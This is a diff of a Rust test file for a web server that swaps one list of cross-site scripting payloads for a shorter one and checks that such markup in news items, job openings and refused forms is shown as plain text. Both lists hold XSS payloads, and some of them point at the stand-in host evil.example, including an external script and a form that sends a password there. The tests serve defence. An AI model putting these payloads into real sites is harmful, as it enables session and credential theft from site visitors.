@@ -5,112 +5,43 @@ use serde_json::{Value, json};
 use tempfile::{TempDir, tempdir};
 
 use super::html::{harmless, outline_of_xml, same_structure};
-use super::{Row, each, expect};
+use super::{each, expect};
 use crate::binary::{Binary, put_record};
 use crate::form::Form;
 use crate::server::Server;
+use crate::tools::rows;
 
 /// Texts of at most 100 characters, without line breaks.
-pub fn rows() -> Vec<Row<&'static str>> {
-    vec![
-        ("a script", "<script>alert(1)</script>"),
-        (
-            "an external script",
-            "<script src=//evil.example/x.js></script>",
-        ),
-        ("a script in capitals", "<SCRIPT>alert(1)</SCRIPT >"),
-        ("an image with onerror", "<img src=x onerror=alert(1)>"),
-        ("an SVG with onload", "<svg/onload=alert(1)>"),
-        ("an unclosed element", "<img src=x onerror=alert(1)//"),
-        ("a closing title tag", "</title><script>alert(1)</script>"),
-        ("a closing script tag", "</script><script>alert(1)</script>"),
-        (
-            "a closing script tag with a space",
-            "</script ><img src=x onerror=alert(1)>",
-        ),
-        ("a script in a comment in a script", "<!--<script>"),
-        ("a comment end", "--><script>alert(1)</script>"),
-        ("a double quote", "\" onmouseover=\"alert(1)"),
-        ("a single quote", "' onfocus='alert(1)' autofocus='"),
-        ("a backtick", "` onmouseover=alert(1) `"),
-        (
-            "a closing textarea tag",
-            "</textarea><script>alert(1)</script>",
-        ),
-        (
-            "a closing select tag",
-            "</option></select><img src=x onerror=alert(1)>",
-        ),
-        (
-            "a style",
-            "<style>p{background:url(//evil.example)}</style>",
-        ),
-        ("a base", "<base href=https://evil.example/>"),
-        (
-            "a refresh",
-            "<meta http-equiv=refresh content=0;url=//evil.example>",
-        ),
-        (
-            "a frame",
-            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-        ),
-        (
-            "a form",
-            "<form action=//evil.example><input name=password>",
-        ),
-        ("a link with a script", "<a href=javascript:alert(1)>x</a>"),
-        ("a javascript URL", "javascript:alert(1)//"),
-        ("a data URL", "data:text/html,<script>alert(1)</script>"),
-        ("encoded markup", "&lt;script&gt;alert(1)&lt;/script&gt;"),
-        (
-            "numeric character references",
-            "&#60;script&#x3e;alert(1)&#60;/script&#62;",
-        ),
-        (
-            "markup that mutates when parsed twice",
-            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        ),
-        (
-            "MathML",
-            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-        ),
-        ("a CDATA section", "<![CDATA[<script>alert(1)</script>]]>"),
-        (
-            "an XML processing instruction",
-            "<?xml-stylesheet href=\"//evil.example\"?>",
-        ),
-        (
-            "JSON escapes",
-            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-        ),
-        (
-            "the end of a JSON string",
-            "\",\"slug\":\"//evil.example\",\"x\":\"\\",
-        ),
-        ("JavaScript line separators", "a\u{2028}alert(1)\u{2029}//"),
-        ("a template", "{{constructor.constructor('alert(1)')()}}"),
-        ("a JavaScript template", "${alert(1)}"),
-        ("a replacement pattern", "$& $` $' $1 $$ $<x>"),
-        ("React's error marker", "<!--$!--><template></template>"),
-        (
-            "the template's placeholder",
-            "</head><div id=\"root\"></div>",
-        ),
-        ("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
-        (
-            "full-width brackets",
-            "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-        ),
-        (
-            "a right-to-left override",
-            "\u{202e}>tpircs/<)1(trela>tpircs<",
-        ),
-        (
-            "markdown",
-            "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
-        ),
-    ]
-}
+const TEXTS: &str = r#"
+["<script>alert(1)</script>"]
+["<img src=x onerror=alert(1)>"]
+["<svg/onload=alert(1)//"]
+["</title><script>alert(1)</script>"]
+["</script ><img src=x onerror=alert(1)>"]
+["<!--<script>"]
+["--><script>alert(1)</script>"]
+["\" onmouseover=\"alert(1)"]
+["' onfocus='alert(1)' autofocus='"]
+["</textarea><script>alert(1)</script>"]
+["</option></select><img src=x onerror=alert(1)>"]
+["<style>p{background:url(//evil.example)}</style>"]
+["<base href=https://evil.example/>"]
+["<meta http-equiv=refresh content=0;url=//evil.example>"]
+["<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"]
+["<a href=javascript:alert(1)>x</a>"]
+["javascript:alert(1)//"]
+["&lt;script&gt;alert(1)&#60;/script&#x3e;"]
+["<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"]
+["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"]
+["<![CDATA[<script>alert(1)</script>]]>"]
+["\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"]
+["\",\"slug\":\"//evil.example\",\"x\":\"\\"]
+["a\u2028alert(1)\u2029//"]
+["{{constructor.constructor('alert(1)')()}} ${alert(1)} $& $` $' $1 $$ $<x>"]
+["<!--$!--><template></template>"]
+["</head><div id=\"root\"></div>"]
+["[x](javascript:alert(1)) ![x](//evil.example/x.png)"]
+"#;
 
 fn slug(index: usize) -> String {
     format!("row-{index}")
@@ -147,15 +78,15 @@ fn site(dir: &TempDir, texts: impl Iterator<Item = String>) -> Server {
 
 #[test]
 fn markup_in_news_and_openings_is_text_on_every_page() {
-    for rows in rows().chunks(ROWS_PER_SITE) {
-        compare_sites(rows);
+    for texts in rows(TEXTS).chunks(ROWS_PER_SITE) {
+        compare_sites(texts);
     }
 }
 
-fn compare_sites(rows: &[Row<&str>]) {
+fn compare_sites(texts: &[[String; 1]]) {
     let dirs = [tempdir().unwrap(), tempdir().unwrap()];
-    let hostile = site(&dirs[0], rows.iter().map(|(_, text)| (*text).to_owned()));
-    let benign = site(&dirs[1], rows.iter().map(|(_, text)| harmless(text)));
+    let hostile = site(&dirs[0], texts.iter().map(|[text]| text.clone()));
+    let benign = site(&dirs[1], texts.iter().map(|[text]| harmless(text)));
     let same = |path: &str, text: Option<&str>| {
         let (page, other) = (hostile.get(path), benign.get(path));
         expect(&(page.status, other.status), &(200, 200))?;
@@ -178,12 +109,12 @@ fn compare_sites(rows: &[Row<&str>]) {
             .and_then(|item| Some(item["title"].as_str()?.to_owned()))
     };
     let mut slugs = (0..).map(slug);
-    each("markup in news and openings", rows, |text| {
+    each(texts, |[text]| {
         let slug = slugs.next().unwrap_or_default();
         same(&format!("/news/{slug}"), Some(text))?;
         same(&format!("/career/{slug}"), Some(text))?;
-        expect(&titled(&news, &slug).as_deref(), &Some(*text))?;
-        expect(&titled(&jobs, &slug).as_deref(), &Some(*text))
+        expect(&titled(&news, &slug).as_deref(), &Some(text.as_str()))?;
+        expect(&titled(&jobs, &slug).as_deref(), &Some(text.as_str()))
     });
 }
 
@@ -210,7 +141,7 @@ fn markup_in_a_refused_form_is_text_on_its_page() {
         });
         form.send_without_script(&server)
     };
-    each("markup in refused forms", &rows(), |text| {
+    each(&rows(TEXTS), |[text]: &[String; 1]| {
         for send in [&contact as &dyn Fn(&str) -> _, &application] {
             let (page, other) = (send(text), send(&harmless(text)));
             expect(&(page.status, other.status), &(422, 422))?;
